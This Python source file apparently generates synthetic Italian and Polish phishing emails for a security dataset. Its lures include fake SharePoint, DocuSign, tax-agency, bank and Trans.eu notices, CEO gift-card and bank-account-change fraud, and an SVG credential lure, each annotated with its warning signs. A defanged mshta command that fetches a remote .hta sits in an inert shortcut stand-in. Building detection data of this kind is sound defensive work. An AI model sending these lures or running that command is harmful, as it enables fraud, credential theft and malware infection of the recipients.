"""Attacks, Italian (17-21) and Polish (22-26)."""
from msgs import msg
from msgs.common import *  # noqa
from lib import mta, mime, ids, archive
from lib.mime import local
from lib.company import FERRETTI, CAP, PARTNER, ENT, S, P


@msg('attack', 17, 'it', 'ferretti-sharepoint-condivisione')
def a17(m):
    m.t = local('CET', 2026, 11, 3, 14, 22, 8)
    m.frm = ('Chiara Colombo', 'no-reply@sharepointonline.com')
    m.reply_to = FERRETTI['colombo']
    m.to = [P('bianchi')]
    m.subject = 'Chiara Colombo ha condiviso "Estratto conto fatture aperte Q4 – Example Italia" con te'
    tenant = dict(FERRETTI['tenant'])
    tenant.update(domain='sharepointonline.com', org='ferretti-trasporti.it', mbx='AM8PR04MB7731', fe='AS8PR04MB8897')
    sysp = mta.M365(m, tenant=tenant, client='system', mailfrom='no-reply@sharepointonline.com')
    link = 'https://ferrettitrasporti-my.sharepoint.com/:b:/g/personal/c_colombo_ferretti-trasporti_it/E%s?e=%s' % (
        m.alnum(46, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-'), m.alnum(6))
    note = ('Buongiorno Luca, ti condivido l\'estratto conto delle fatture aperte del Q4 con le coordinate aggiornate. '
            'Ti chiedo di verificarlo oggi stesso perché l\'amministrazione chiude la contabilità del mese. Grazie, Chiara')
    blocks = ['<p style="font-size:21px;margin:0 0 16px 0;">Chiara Colombo ha condiviso un file con te</p>',
              '<table cellpadding="0" cellspacing="0" style="width:100%;background:#f3f2f1;margin:0 0 16px 0;"><tr><td style="padding:12px 14px;font-style:italic;">'
              + styles.esc(note) + '</td></tr></table>',
              '<table cellpadding="0" cellspacing="0" style="border:1px solid #e1dfdd;width:100%;"><tr>'
              '<td style="padding:12px;width:40px;"><span style="display:inline-block;background:#d13438;color:#fff;font-size:11px;padding:8px 5px;">PDF</span></td>'
              '<td style="padding:12px;">Estratto conto fatture aperte Q4 – Example Italia.pdf</td></tr></table>',
              '<p style="font-size:12px;color:#605e5c;margin:14px 0 0 0;">Questo collegamento funziona solo per i destinatari diretti del messaggio.</p>']
    html_t = tx_html(blocks=blocks, brand='SharePoint', brand_color='#03787c', button=('Apri', link, '#0f6cbd'),
                     logo_html='<span style="font-size:15px;color:#03787c;font-weight:600;">SharePoint</span>',
                     footer=['<img src="https://res.cdn.office.net/assets/mail/logos/microsoft_logo.png" width="72" alt="Microsoft" />',
                             'Microsoft rispetta la tua privacy. Per altre informazioni, leggi la <a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#605e5c;">informativa sulla privacy</a>.',
                             'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052'], lang='it', font='"Segoe UI",Tahoma,sans-serif',
                     bg='#ffffff')
    plain_t = 'Chiara Colombo ha condiviso un file con te\n\n%s\n\nEstratto conto fatture aperte Q4 – Example Italia.pdf\n\nApri: %s\n' % (note, link)
    root = alt(m, plain_t, html_t, charset='utf-8', cte='base64')
    sysp.finish(root)
    m.describe('Document-share lure from a compromised partner: genuine SharePoint sharing notification from the carrier Ferretti\'s own '
               'tenant; the shared "statement of open invoices with updated bank details" leads on to a credential-harvesting page.',
               'Everything is authentic Microsoft infrastructure (sharepointonline.com, Ferretti tenant, DKIM/SPF/DMARC pass); the lure is the '
               'combination of "updated coordinates", "check today" and a link-only share where the carrier normally attaches documents '
               '(compare business/17); the payload sits behind the link.',
               must_urls=[link])


@msg('attack', 18, 'it', 'agenzia-entrate-zip-lnk')
def a18(m):
    m.t = local('CET', 2026, 10, 28, 8, 3, 55)
    m.frm = ('Agenzia delle Entrate - Direzione Provinciale di Ferrara', 'segreteria@studiotecnicozanetti.it')
    m.to = [P('bianchi')]
    m.subject = 'Comunicazione di irregolarità - controllo automatizzato dichiarazione IVA 2026 (prot. 2026/0418372)'
    m.hdr_charset, m.hdr_enc = 'iso-8859-1', 'Q'
    sysp = mta.Aruba(m, client='webmail', client_ip='5.181.80.134')
    pw = 'AdE2026'
    m.meta['zip_password'] = pw
    standin = ('[file inerte - sostituto di un collegamento Windows (.lnk), nessun contenuto eseguibile]\r\n'
               'Nome visualizzato : Comunicazione_AdE_2026_0418372.pdf\r\n'
               'Icona             : Acrobat Reader\r\n'
               'Destinazione (neutralizzata): C:\\Windows\\System32\\mshta.exe hxxps[:]//ade-documenti[.]icu/c/0418372.hta\r\n').encode('utf-8')
    z = archive.make_zipcrypto([('Comunicazione_AdE_2026_0418372.pdf.lnk', standin)], pw, m.rng, date_time=(2026, 10, 28, 7, 41, 10))
    body = ('Gentile Contribuente,\n\n'
            'la presente per comunicarLe che, a seguito del controllo automatizzato ai sensi dell\'art. 54-bis del D.P.R. n. 633/1972 '
            'sulla dichiarazione IVA presentata per l\'anno d\'imposta 2025 da EXAMPLE ITALIA S.R.L. (P.IVA %s), sono emerse '
            'irregolarità nei versamenti periodici.\n\n'
            'In allegato trasmettiamo la comunicazione con il dettaglio degli importi dovuti. Per motivi di riservatezza il documento '
            'è protetto da password.\n\nPassword di apertura: %s\n\n'
            'Ai sensi dell\'art. 2 del D.Lgs. n. 462/1997, il pagamento entro 30 giorni dal ricevimento consente la riduzione delle '
            'sanzioni a un terzo. In assenza di riscontro si procederà all\'iscrizione a ruolo.\n\n'
            'Distinti saluti\n\nUfficio Controlli\nAgenzia delle Entrate - Direzione Provinciale di Ferrara\n' % (ENT['IT']['vat'], pw))
    txt = mime.text(body, 'plain', 'iso-8859-1', 'quoted-printable', cs_quote=False, extra_ct=';\n format=flowed')
    zp = mime.Part([('Content-Transfer-Encoding', 'base64'), ('Content-Type', 'application/zip;\n name=Comunicazione_AdE_2026_0418372.zip'),
                    ('Content-Disposition', 'attachment;\n filename=Comunicazione_AdE_2026_0418372.zip;\n size=%d' % len(z))], mime.b64_encode(z))
    root = mime.multipart('mixed', [txt, zp], sysp.boundary(1))
    sysp.finish(root)
    m.describe('Malware loader posing as the Agenzia delle Entrate: VAT "irregularity notice" with a password-protected ZIP '
               '(password in the mail) containing a shortcut named like a PDF.',
               'Sent from a compromised mailbox of an unrelated technical studio on Aruba webmail (foreign IP); the Agency communicates '
               'such notices by PEC or the cassetto fiscale, not as encrypted ZIPs; password in the body defeats scanning; .pdf.lnk double '
               'extension (inert text stand-in here).')


@msg('attack', 19, 'it', 'docusign-falso-contratto-trasporto')
def a19(m):
    m.t = local('CET', 2026, 11, 26, 16, 9, 31)
    m.frm = ('Ferretti Trasporti S.p.A. tramite DocuSign', 'dse@docsign-eu.com')
    m.to = [P('romano')]
    m.subject = 'Completa con DocuSign: Contratto quadro di trasporto 2027 – Ferretti Trasporti S.p.A.'
    sysp = mta.SendGrid(m, domain='docsign-eu.com')
    link = sg_link(m, 'url7412.docsign-eu.com', 140)
    code = m.hex(32, True)
    blocks = ['<table cellpadding="0" cellspacing="0" style="width:100%;background:#1e4ca1;"><tr><td style="padding:28px;text-align:center;color:#ffffff;font-size:16px;">'
              'Ferretti Trasporti S.p.A. ti ha inviato un documento da rivedere e firmare.</td></tr></table>',
              '<p style="margin:18px 0 6px 0;"><b>Chiara Colombo</b><br /><a href="mailto:c.colombo@ferretti-trasporti.it" style="color:#2463d1;">c.colombo@ferretti-trasporti.it</a></p>',
              'Buongiorno Francesca,<br />come anticipato, ti invio il contratto quadro 2027 con le nuove tariffe (adeguamento gasolio e pedaggi). '
              'Ti chiedo di firmarlo entro venerdì così possiamo pianificare i ritiri di gennaio.<br />Grazie, Chiara',
              '<p style="font-size:12px;color:#666666;margin-top:22px;"><b>Non condividere questa email</b><br />Questa email contiene un link sicuro a '
              'DocuSign. Non condividere questa email, il link o il codice di accesso con altre persone.</p>',
              '<p style="font-size:12px;color:#666666;"><b>Metodo di firma alternativo</b><br />Visita DocuSign.com, fai clic su \'Accedi ai documenti\' '
              'e inserisci il codice di sicurezza:<br />%s</p>' % code]
    html_t = tx_html(blocks=blocks, brand='DocuSign', brand_color='#1e4ca1', button=('RIVEDI DOCUMENTO', link, '#ffc820'),
                     logo_html='<span style="font-size:22px;font-weight:bold;color:#1e1e1e;">Docu<span style="color:#1e4ca1;">Sign</span></span>',
                     footer=['Informazioni su DocuSign', 'Firma documenti elettronicamente in pochi minuti. È sicuro. Che tu sia in ufficio, a casa o in viaggio.',
                             'Domande su questo documento? Se hai bisogno di modificare il documento o hai domande, contatta direttamente il mittente.'],
                     lang='it', font='Helvetica,Arial,sans-serif')
    plain_t = styles.html_to_text(html_t) + '\n\nRIVEDI DOCUMENTO: %s\n' % link
    root = alt(m, plain_t, html_t, charset='utf-8', cte='quoted-printable')
    sysp.finish(root)
    m.describe('Fake DocuSign envelope in Italian: "Ferretti Trasporti sent you the 2027 framework transport contract to sign", '
               'button to a credential-harvesting page behind SendGrid click tracking.',
               'Look-alike domain docsign-eu.com via SendGrid (authentication passes for the look-alike, not for docusign.net); realistic '
               'DocuSign template and a plausible business pretext using the real carrier contact; the "security code" is not a DocuSign envelope ID '
               'format and the link does not go to docusign.net.',
               must_urls=[link])


@msg('attack', 20, 'it', 'ceo-gift-card-natale')
def a20(m):
    m.t = local('CET', 2026, 12, 10, 9, 47, 12)
    m.frm = ('Matthias Hoffmann', 'matthias.hoffmann.ceo@gmail.com')
    m.to = [P('romano')]
    m.subject = 'Richiesta riservata'
    sysp = mta.Gmail(m)
    body = ('Ciao Francesca,\n\nsei in ufficio stamattina? Ho bisogno di un favore, ma ti chiedo la massima discrezione.\n\n'
            'Vorrei fare una sorpresa di Natale ad alcuni clienti importanti in Italia e mi servono 10 gift card Amazon da 100 euro '
            'ciascuna. Riesci a comprarle oggi in tabaccheria o al supermercato vicino all\'ufficio? Poi grattate il retro e mandami '
            'le foto dei codici per email, così le inoltro io direttamente ai clienti con un biglietto personale.\n\n'
            'Ti rimborso tutto con la nota spese a fine mese, tienimi da parte gli scontrini. Sono in riunione tutto il giorno '
            'e non posso rispondere al telefono, scrivimi solo qui.\n\nGrazie mille,\nMatthias\n\nInviato da iPhone')
    plain_t, html_t = styles.gmail(body.split('\n\n'))
    root = alt(m, plain_t, html_t, charset='UTF-8', cte='quoted-printable', cs_quote=False, cs_upper=True)
    sysp.finish(root)
    m.describe('Gift-card CEO fraud: "the CEO" asks the Italian office manager to buy ten 100 € Amazon gift cards for customers and '
               'send photos of the codes.',
               'Gmail address in the CEO\'s name, not his company address; secrecy, "only by e-mail", scratch-off codes as photos; '
               'the real Christmas gift request (business/20) is internal, ordered through a supplier and invoiced.')


@msg('attack', 21, 'it', 'consorzio-lookalike-ordine-svg')
def a21(m):
    m.t = local('CET', 2026, 11, 11, 11, 58, 2)
    m.frm = ('Marco Galli - Consorzio Agrario Padano', 'acquisti@consorzioagrariopadano.it')
    m.to = [P('romano')]
    m.cc = [P('bianchi')]
    m.subject = 'Ordine n. 2026/ACQ/1184 – conferma d\'ordine e proforma'
    sysp = mta.EximCpanel(m, server='srv42.hostitalia-cloud.it', ip='31.14.135.208', client='outlook', auth='acquisti@consorzioagrariopadano.it',
                          client_ip='156.146.59.21', dkim=('consorzioagrariopadano.it', 'default'), lang='it')
    url = 'https://vista-documenti.b-cdn.net/ordine/2026ACQ1184/index.html?u=%s' % b64url(S['romano']['addr'])
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="794" height="560" viewBox="0 0 794 560">\n'
           '  <rect width="794" height="560" fill="#f4f6f8"/>\n'
           '  <rect x="197" y="110" width="400" height="300" rx="6" fill="#ffffff" stroke="#c8ccd0"/>\n'
           '  <rect x="197" y="110" width="400" height="54" rx="6" fill="#b71c1c"/>\n'
           '  <text x="397" y="144" font-family="Segoe UI,Arial" font-size="19" fill="#ffffff" text-anchor="middle">Documento protetto</text>\n'
           '  <text x="397" y="210" font-family="Segoe UI,Arial" font-size="15" fill="#333333" text-anchor="middle">Ordine_2026_ACQ_1184.pdf (2 pagine)</text>\n'
           '  <text x="397" y="240" font-family="Segoe UI,Arial" font-size="13" fill="#666666" text-anchor="middle">Il documento è stato protetto dal mittente.</text>\n'
           '  <text x="397" y="262" font-family="Segoe UI,Arial" font-size="13" fill="#666666" text-anchor="middle">Per visualizzarlo accedere con l\'account aziendale.</text>\n'
           '  <a xlink:href="%s" target="_blank">\n'
           '    <rect x="297" y="300" width="200" height="44" rx="4" fill="#0f6cbd"/>\n'
           '    <text x="397" y="328" font-family="Segoe UI,Arial" font-size="16" fill="#ffffff" text-anchor="middle">Visualizza documento</text>\n'
           '  </a>\n</svg>\n' % url.replace('&', '&amp;'))
    paras = ['Buongiorno,',
             'in allegato l\'ordine n. 2026/ACQ/1184 firmato (NPK 20-10-10 + 2 MgO, 48 t, consegna settimana 3/2027) e la richiesta di '
             'proforma per l\'anticipo concordato.',
             'Il documento si apre direttamente nel browser; vi chiedo conferma d\'ordine entro domani per bloccare il prezzo.',
             'Cordiali saluti']
    sig = ('Marco Galli\nUfficio Acquisti\nConsorzio Agrario Padano Soc. Coop.\nStrada Cisa 114 – 46100 Mantova\nTel. 0376 391 220')
    plain_t, html_t = styles.outlook('it', paras, sig, charset='iso-8859-15')
    root = mixed(m, [alt(m, plain_t, html_t, charset='iso-8859-15', cte='quoted-printable'),
                     att(svg.encode('utf-8'), 'image/svg+xml', 'Ordine_2026_ACQ_1184.svg', style='outlook',
                         date=mime.rfc_date(m.t, 'UTC').replace('+0000', 'GMT'))])
    sysp.finish(root)
    m.describe('SVG-attachment phishing from a customer look-alike: "signed order and proforma request"; the .svg draws a '
               '"protected document" with a button linking to a credential page that carries the victim\'s address.',
               'Domain consorzioagrariopadano.it without hyphens (the customer uses consorzio-agrario-padano.it on Aruba) on a different '
               'cPanel host; an order as SVG image; link to a CDN-hosted page with the recipient\'s address base64-encoded; urgency to lock the price.',
               phones=['0376 391 220'], must_urls=[url])


# ------------------------------------------------------------------ Polish

@msg('attack', 22, 'pl', 'partner-logistik-lookalike-rachunek')
def a22(m):
    m.t = local('CET', 2026, 11, 24, 10, 36, 41)
    m.frm = ('Partner Logistik - Księgowość', 'ksiegowosc@partner-logistlk.pl')
    m.to = [P('kaminski')]
    m.subject = 'Zmiana numeru rachunku bankowego – Partner Logistik sp. z o.o.'
    m.hdr_charset, m.hdr_enc = 'iso-8859-2', 'Q'
    sysp = mta.OVH(m, lang='pl')
    new = ids.pl_iban('24900005', '0000450018372914')
    nrb = ids.pl_nrb(new)
    paras = ['Szanowni Państwo,',
             'uprzejmie informujemy, że w związku ze zmianą banku obsługującego naszą spółkę z dniem 01.12.2026 r. ulega zmianie numer '
             'rachunku bankowego Partner Logistik sp. z o.o.',
             'Nowy rachunek (Alior Bank S.A.):\n%s' % nrb,
             'Rachunek został zgłoszony do Urzędu Skarbowego i jest widoczny w Wykazie podatników VAT (tzw. biała lista) – można to '
             'sprawdzić w wyszukiwarce Ministerstwa Finansów: https://www.podatki.gov.pl/wykaz-podatnikow-vat-wyszukiwarka',
             'Prosimy o aktualizację danych w Państwa systemie i uregulowanie faktur FV/2026/11/0417 oraz FV/2026/11/0452 już na nowy '
             'rachunek. Dotychczasowy rachunek w PKO BP zostanie zamknięty 30.11.2026 r.',
             'W załączeniu przesyłamy pismo podpisane przez Zarząd.']
    sig = ('Z poważaniem\n\nMonika Kowalczyk\nSpecjalista ds. rozliczeń\nPartner Logistik sp. z o.o.\nul. Kontenerowa 18, 80-601 Gdańsk\n'
           'tel. +48 58 343 18 27')
    plain_t, html_t = styles.outlook('pl', paras, sig, charset='windows-1250')
    letter = doc_pdf(m, head='Partner Logistik sp. z o.o.', head_sub=('ul. Kontenerowa 18 · 80-601 Gdańsk · NIP %s · KRS %s' % (PARTNER['vat'], PARTNER['krs']),),
                     recipient=('Example Polska sp. z o.o.', 'Dział Księgowości', 'ul. Przemysłowa 8', '24-100 Puławy'),
                     letter_date='Gdańsk, 23.11.2026', title='Zawiadomienie o zmianie rachunku bankowego',
                     intro=['Szanowni Państwo,',
                            'niniejszym informujemy, że od dnia 01.12.2026 r. wszelkie płatności na rzecz Partner Logistik sp. z o.o. '
                            'należy kierować wyłącznie na rachunek:',
                            'Alior Bank S.A.\nNr rachunku: %s\nIBAN: %s · SWIFT: ALBPPLPW' % (nrb, ids.fmt_iban(new)),
                            'Płatności dokonane na dotychczasowy rachunek po 30.11.2026 r. nie będą traktowane jako zapłata.'],
                     sign=['Z poważaniem', '', 'Tadeusz Zieliński', 'Prezes Zarządu'],
                     footer=('Partner Logistik sp. z o.o., Sąd Rejonowy Gdańsk-Północ w Gdańsku, VII Wydział Gospodarczy KRS %s, '
                             'NIP %s, REGON %s, kapitał zakładowy 200 000 zł' % (PARTNER['krs'], PARTNER['vat'], PARTNER['regon']),),
                     creator='Microsoft® Word 2016', producer='Microsoft® Word 2016', color=(0.0, 0.32, 0.6))
    root = mixed(m, [alt(m, plain_t, html_t, charset='windows-1250', cte='quoted-printable'),
                     att(letter, 'application/pdf', 'Zmiana_rachunku_Partner_Logistik.pdf', style='outlook',
                         date=mime.rfc_date(m.t, 'UTC').replace('+0000', 'GMT'))])
    sysp.finish(root)
    m.describe('Bank-account change from a look-alike of the logistics partner (partner-logistlk.pl, "i" → "l"): new Alior account, '
               'two invoices to be paid there, board-signed letter as PDF.',
               'Look-alike domain on OVH hosted Exchange (the partner uses home.pl); unknown signatory; the claim that the account is on '
               'the VAT white list is unverifiable from the mail and is exactly what fraudsters assert; old account "closes" in 6 days.',
               phones=['+48 58 343 18 27'])


@msg('attack', 23, 'pl', 'ksef-weryfikacja-uprawnien')
def a23(m):
    m.t = local('CET', 2026, 11, 18, 7, 12, 5)
    m.frm = ('KSeF - Krajowy System e-Faktur', 'powiadomienia@ksef-mf-gov.pl')
    m.to = [P('kaminski')]
    m.subject = 'KSeF: nowa faktura oczekuje na odbiór – wymagane potwierdzenie uprawnień'
    sysp = mta.Mailgun(m, domain='mg.ksef-mf-gov.pl', selector='mx')
    ksef_no = '%s-20261118-%s-%s' % (ENT['PL']['vat'], m.hex(12, True), m.hex(2, True))
    url = 'https://ksef-mf-gov.pl/web/uwierzytelnienie?ctx=%s&nr=%s' % (m.hex(16), ksef_no)
    blocks = ['<p style="font-size:18px;font-weight:bold;color:#0052a5;margin:0 0 14px 0;">Krajowy System e-Faktur</p>',
              'Szanowni Państwo,',
              'w Krajowym Systemie e-Faktur zarejestrowano fakturę ustrukturyzowaną wystawioną dla podmiotu '
              '<b>EXAMPLE POLSKA SP. Z O.O. (NIP %s)</b>.' % ENT['PL']['vat'],
              'Numer KSeF: <b>%s</b><br />Data przyjęcia: 18.11.2026' % ksef_no,
              'W związku ze zmianą zasad nadawania uprawnień obowiązującą od 1 grudnia 2026 r. odbiór faktur wymaga jednorazowego '
              'potwierdzenia tożsamości osoby uprawnionej za pomocą login.gov.pl (Profil Zaufany lub bankowość elektroniczna). '
              'Bez potwierdzenia dostęp do faktur zakupowych zostanie zawieszony.',
              '<p style="font-size:12px;color:#666666;">Wiadomość wygenerowana automatycznie. Prosimy na nią nie odpowiadać.</p>']
    html_t = tx_html(blocks=blocks, brand='KSeF', brand_color='#0052a5', button=('Potwierdź uprawnienia', url, '#d4213d'),
                     logo_html='<span style="font-size:15px;color:#d4213d;font-weight:bold;">Ministerstwo Finansów</span>',
                     footer=['Ministerstwo Finansów · ul. Świętokrzyska 12 · 00-916 Warszawa', 'Krajowa Informacja Skarbowa: 22 330 03 30'],
                     lang='pl')
    plain_t = styles.html_to_text(html_t) + '\n\nPotwierdź uprawnienia: %s\n' % url
    root = alt(m, plain_t, html_t, charset='utf-8', cte='base64')
    sysp.finish(root)
    m.describe('E-invoicing phishing (Poland\'s KSeF): "a structured invoice is waiting; confirm your permissions via login.gov.pl or '
               'your access to purchase invoices will be suspended".',
               'Look-alike ksef-mf-gov.pl via Mailgun (real service: ksef.mf.gov.pl, which sends no such mails); login page imitating '
               'login.gov.pl/bank login on the look-alike; invented rule change; plausible KSeF number with the company\'s NIP.',
               phones=['22 330 03 30'], must_urls=[url])


@msg('attack', 24, 'pl', 'mbank-companynet-mtoken')
def a24(m):
    m.t = local('CET', 2026, 12, 1, 6, 31, 47)
    m.frm = ('mBank CompanyNet', 'powiadomienia@okna-lubelskie-pcv.pl')
    m.to = [P('kaminski')]
    m.subject = 'CompanyNet: wymagana aktualizacja mToken Asseco MAA do 05.12.2026'
    m.hdr_charset, m.hdr_enc = 'iso-8859-2', 'B'
    sysp = mta.EximCpanel(m, server='s41.cyber-hosting.pl', ip='91.185.185.61', client='phpmailer', auth=None, script_user='oknalub',
                          mailfrom='oknalub@s41.cyber-hosting.pl', zone='CET', msgid_host='okna-lubelskie-pcv.pl', uid=1532)
    url = 'https://companynet-mbank.com.pl/CompanyNet/Logon?session=%s' % m.hex(20)
    html_t = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-2"></head>\n'
              '<body style="font-family:Arial,sans-serif;font-size:13px;color:#333">\n'
              '<div style="max-width:620px;margin:0 auto;border:1px solid #ddd">\n'
              '<div style="background:#e31837;color:#fff;padding:14px 20px;font-size:20px;font-weight:bold">mBank <span style="font-weight:normal;font-size:14px">CompanyNet</span></div>\n'
              '<div style="padding:20px">\n<p>Szanowni Państwo,</p>\n'
              '<p>informujemy, że w związku z aktualizacją zabezpieczeń systemu CompanyNet do dnia <b>05.12.2026 r.</b> konieczna jest '
              'ponowna aktywacja aplikacji <b>mToken Asseco MAA</b> dla użytkowników firmy <b>EXAMPLE POLSKA SP. Z O.O.</b></p>\n'
              '<p>Po tym terminie autoryzacja przelewów i paczek płatności nie będzie możliwa do czasu wizyty w placówce.</p>\n'
              '<p>Aktywacja zajmuje ok. 3 minuty: zaloguj się do CompanyNet, przepisz kod z aplikacji mToken i zatwierdź nowe urządzenie.</p>\n'
              '<p style="text-align:center;margin:26px 0"><a href="%s" style="background:#e31837;color:#fff;padding:11px 28px;text-decoration:none;font-weight:bold">Aktywuj mToken</a></p>\n'
              '<p>Z poważaniem<br>Zespół Bankowości Elektronicznej mBank S.A.</p>\n</div>\n'
              '<div style="background:#f4f4f4;font-size:11px;color:#777;padding:12px 20px">mBank S.A., ul. Prosta 18, 00-850 Warszawa. '
              'Infolinia dla firm: 801 273 273</div>\n</div>\n</body></html>\n' % url)
    root = alt(m, styles.html_to_text(html_t) + '\n\nAktywuj mToken: %s\n' % url, html_t, charset='iso-8859-2', cte='quoted-printable')
    sysp.finish(root)
    m.describe('Bank phishing: "mBank CompanyNet" demands re-activation of the mToken Asseco MAA authenticator by 5 December, '
               'or payment authorisation stops.',
               'Sent through a compromised WordPress site of a window manufacturer (PHPMailer on a shared cPanel server, no DKIM) with '
               'mBank only in the display name; link to companynet-mbank.com.pl (real: companynet.mbank.pl); deadline and payment blocking.',
               phones=['801 273 273'], must_urls=[url])


@msg('attack', 25, 'pl', 'google-forms-dane-kontrahenta')
def a25(m):
    m.t = local('CET', 2026, 10, 21, 13, 40, 26)
    m.frm = ('Dział Rozliczeń Partner Logistik (przez Formularze Google)', 'forms-receipts-noreply@google.com')
    m.reply_to = ('Dział Rozliczeń Partner Logistik', 'partnerlogistik.rozliczenia@gmail.com')
    m.to = [P('wojcik')]
    m.subject = 'Formularz: Aktualizacja danych kontrahenta – Partner Logistik 2027'
    sysp = mta.GoogleSystem(m, dkim_domain='google.com', mailfrom='3Kq%s@doclist.bounces.google.com' % m.alnum(20))
    form = 'https://docs.google.com/forms/d/e/1FAIpQLS%s/viewform?usp=mail_form_link' % m.alnum(48, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-')
    blocks = ['<p style="font-size:16px;margin:0 0 12px 0;">Zaprosiliśmy Cię do wypełnienia formularza:</p>',
              '<p style="font-size:22px;margin:0 0 10px 0;color:#202124;">Aktualizacja danych kontrahenta – Partner Logistik 2027</p>',
              'W związku z wdrożeniem KSeF i nowym portalem klienta prosimy o aktualizację danych rozliczeniowych do 31.10.2026. '
              'Na adres e-mail podany w formularzu wyślemy dostęp do portalu – w celu weryfikacji prosimy podać adres i hasło '
              'do służbowej skrzynki pocztowej, z której korzystają Państwo w kontaktach z nami.',
              '<p style="font-size:13px;color:#5f6368;">Pytanie 1 z 9 · Pełna nazwa firmy *</p>']
    html_t = tx_html(blocks=blocks, brand='Formularze Google', brand_color='#673ab7', button=('WYPEŁNIJ FORMULARZ', form, '#673ab7'),
                     footer=['Utworzono w Formularzach Google. <a href="https://www.google.com/forms/about/" style="color:#777777;">Utwórz własny formularz</a>',
                             'Google nie zatwierdził tych treści. <a href="https://docs.google.com/forms/u/0/d/e/report" style="color:#777777;">Zgłoś nadużycie</a>'],
                     lang='pl', font='Roboto,Arial,sans-serif', bg='#f0ebf8')
    plain_t = styles.html_to_text(html_t) + '\n\nWypełnij formularz: %s\n' % form
    root = alt(m, plain_t, html_t, charset='UTF-8', cte='quoted-printable', cs_upper=True)
    sysp.finish(root)
    m.describe('Abuse of Google Forms: invitation (really sent by Google) to a "counterparty data update" for the logistics partner, '
               'the form asks for the company mailbox address and password.',
               'Genuine google.com infrastructure (DKIM google.com, SPF pass), so only content gives it away: a partner collecting data '
               'via an anonymous Google Form, Reply-To a Gmail address, password requested "for verification"; Google\'s own "not endorsed" footer.',
               must_urls=[form])


@msg('attack', 26, 'pl', 'trans-eu-konto-zablokowane')
def a26(m):
    m.t = local('CET', 2026, 12, 4, 18, 22, 39)
    m.frm = ('Trans.eu', 'no-reply@trans-eu-platform.com')
    m.to = [P('wojcik')]
    m.subject = 'Twoje konto Trans.eu zostało tymczasowo zablokowane'
    sysp = mta.Brevo(m, domain='trans-eu-platform.com')
    url = 'https://platform-trans-eu.com/login?company=1184027&ref=%s' % m.hex(12)
    blocks = ['<p style="font-size:19px;font-weight:bold;margin:0 0 14px 0;">Wykryliśmy nietypowe logowanie</p>',
              'Dzień dobry,',
              'system bezpieczeństwa Trans.eu zarejestrował próbę logowania do konta firmy <b>EXAMPLE POLSKA SP. Z O.O.</b> '
              '(Trans ID 1184027-1) z nowego urządzenia:',
              '<p style="background:#f5f7fa;padding:10px 14px;margin:0 0 14px 0;">Data: 04.12.2026, 17:58<br />Lokalizacja: Bukareszt, Rumunia<br />'
              'Przeglądarka: Chrome 131 / Windows 10</p>',
              'Aby chronić Twoje ładunki i dane kontrahentów, konto zostało tymczasowo zablokowane. Zaloguj się i potwierdź dane firmy '
              'w ciągu 48 godzin. Po tym czasie aktywne oferty frachtowe zostaną wycofane, a konto przekazane do weryfikacji.',
              'Jeżeli to Ty logowałeś się z nowego urządzenia, również potwierdź logowanie.']
    html_t = tx_html(blocks=blocks, brand='Trans.eu', brand_color='#1b5fcc', button=('Odblokuj konto', url, '#1b5fcc'),
                     footer=['Trans.eu Group S.A., ul. Świeradowska 51/57, 50-559 Wrocław', 'Centrum Obsługi Klienta: +48 71 734 17 17'],
                     lang='pl')
    plain_t = styles.html_to_text(html_t) + '\n\nOdblokuj konto: %s\n' % url
    root = alt(m, plain_t, html_t, charset='utf-8', cte='quoted-printable')
    sysp.finish(root)
    m.describe('Trade-platform credential phishing: "Trans.eu account temporarily blocked after a login from Bucharest – confirm company '
               'data within 48 h or freight offers are withdrawn".',
               'Brevo mailing from the look-alike trans-eu-platform.com; link to platform-trans-eu.com (real platform: platform.trans.eu); '
               'freight-exchange accounts are a known target for cargo-theft fraud; urgency (compare the genuine Trans.eu notice in business/23).',
               phones=['+48 71 734 17 17'], must_urls=[url])
